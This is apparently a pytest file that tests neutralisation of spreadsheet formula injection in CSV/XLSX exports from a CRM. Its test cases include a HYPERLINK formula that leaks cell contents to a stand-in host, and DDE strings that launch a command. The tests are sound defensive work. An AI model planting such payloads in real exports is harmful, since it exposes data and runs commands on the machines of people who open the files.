"""Formula neutralisation in every CSV/XLSX export (the report's payloads)."""

from __future__ import annotations

import csv
import io

import pytest

from callcenter.spreadsheets import safe_cell
from crm.contact import ContactData
from crm.export import to_csv


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formulas_become_text(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("plain", ["+49 30 1234567", "-12", "Müller GmbH", "", "a=b"])
def test_plain_values_stay(plain: str) -> None:
    assert safe_cell(plain) == plain


def test_crm_csv_export_neutralises_every_column() -> None:
    evil = '=HYPERLINK("http://evil.example","x")'
    contact = ContactData(display_name=evil, city="@SUM(A1)", notes="+cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(to_csv([contact]))))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["display_name"] == "'" + evil
    assert cells["city"] == "'@SUM(A1)" and cells["notes"].startswith("'+cmd")
